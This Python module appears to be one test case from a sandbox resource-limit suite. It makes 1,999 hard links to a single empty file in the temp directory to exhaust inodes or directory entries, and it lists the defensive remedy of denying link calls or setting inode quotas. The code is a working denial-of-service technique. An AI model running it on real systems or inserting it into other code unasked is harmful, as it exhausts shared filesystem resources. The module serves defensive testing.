# SPDX-License-Identifier: MIT
"""hard-links.py - a disk bomb of one empty file.

Goal: a folder with more entries than the budget.
Means: one file and 2000 names for it. Whoever counts files, sizes or open(2) calls counts one;
on a tmpfs every further name is taken from the same purse as an inode, and elsewhere the
folder itself grows.
"""

import os
import tempfile

from attack import attempting, denied, hold

NAMES = 2000


def run(brief):
    attempting()
    try:
        folder = os.open(tempfile.gettempdir(), os.O_RDONLY)
        os.close(os.open(brief.name, os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=folder))
        for i in range(1, NAMES):
            os.link(brief.name, f"{brief.name}.{i}", src_dir_fd=folder, dst_dir_fd=folder)
    except OSError as why:
        return denied("link", why)
    return hold()


ATTACK = {
    "effect": "more directory entries than the budget",
    "means": "2000 hard links to one empty file",
    "oracle": "usage:inodes",
    "id": "DISK-09",
    "attack_id": "T1499.001, CWE-400",
    "remedy": "deny link and linkat; a quota on inodes, or a watch on statvfs' f_ffree",
    "run": run,
}
